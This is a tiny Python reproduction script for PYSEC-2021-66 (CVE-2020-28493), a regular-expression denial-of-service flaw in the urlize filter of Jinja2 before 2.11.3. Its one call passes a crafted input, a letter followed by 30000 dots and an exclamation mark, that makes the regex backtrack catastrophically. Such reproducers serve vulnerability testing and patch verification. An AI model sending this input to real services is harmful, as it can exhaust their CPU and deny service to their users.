# PYSEC-2021-66 (CVE-2020-28493): Jinja2 before 2.11.3, the urlize filter's _punctuation_re regex has nested
# wildcards; a word with a long run of trailing punctuation makes it backtrack catastrophically (ReDoS).
from jinja2.utils import urlize

urlize("a" + "." * 30000 + "!")
